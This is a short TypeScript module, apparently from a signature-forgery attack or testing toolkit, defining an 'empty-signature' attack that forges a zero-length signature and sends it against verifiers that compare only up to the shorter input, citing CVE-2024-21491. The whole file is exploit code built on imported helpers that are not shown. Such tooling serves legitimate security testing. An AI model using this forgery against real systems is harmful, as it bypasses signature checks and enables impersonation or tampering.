// Forgery: a signature of no length, for code that compares only as far as the shorter text goes (CVE-2024-21491).
import { defineAttack, sendNow } from "./attack.ts";
import { forgeSignatures } from "./forging.ts";

export const emptySignature = defineAttack("empty-signature", (context) =>
  sendNow(
    context,
    forgeSignatures(context, () => [context.envelope.scheme.mark]),
  ),
);
